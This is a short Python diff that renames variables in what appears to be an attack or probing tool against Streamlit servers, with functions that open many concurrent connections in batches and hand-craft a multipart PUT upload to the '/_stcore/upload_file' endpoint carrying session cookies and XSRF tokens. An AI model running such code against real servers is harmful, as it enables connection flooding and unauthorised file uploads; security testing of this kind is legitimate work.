@@ -92,8 +92,8 @@ async def pages(target: Target) -> str:
     opened = refused = 0
     for _ in range(3):
         tabs = [Tab(target.address, "", "") for _ in range(120)]
-        for some in (tabs[:40], tabs[40:80], tabs[80:]):
-            results = await asyncio.gather(*(_opened(tab) for tab in some))
+        for group in (tabs[:40], tabs[40:80], tabs[80:]):
+            results = await asyncio.gather(*(_opened(tab) for tab in group))
             opened += sum(results)
             refused += len(results) - sum(results)
         await asyncio.gather(*(_closed(tab) for tab in tabs))
@@ -214,17 +214,17 @@ async def _xsrf(target: Target) -> str:
 
 async def _put(target: Target, session: str, file: str, body: bytes, cookie: str, token: str) -> Answer:
     limit = "entregent-attack"
-    whole = (
+    content = (
         f'--{limit}\r\nContent-Disposition: form-data; name="f"; filename="{file}.xlsx"\r\n\r\n'.encode()
         + body
         + f"\r\n--{limit}--\r\n".encode()
     )
     head = (
         f"PUT /_stcore/upload_file/{session}/{file} HTTP/1.1\r\nHost: {urlsplit(target.address).netloc}\r\n"
-        f"Content-Type: multipart/form-data; boundary={limit}\r\nContent-Length: {len(whole)}\r\n"
+        f"Content-Type: multipart/form-data; boundary={limit}\r\nContent-Length: {len(content)}\r\n"
         f"Cookie: {cookie}; _streamlit_xsrf={token}\r\nX-Xsrftoken: {token}\r\nConnection: close\r\n\r\n"
     )
-    return await _response(target, head.encode() + whole)
+    return await _response(target, head.encode() + content)
 
 
 async def _opened(tab: Tab) -> bool:
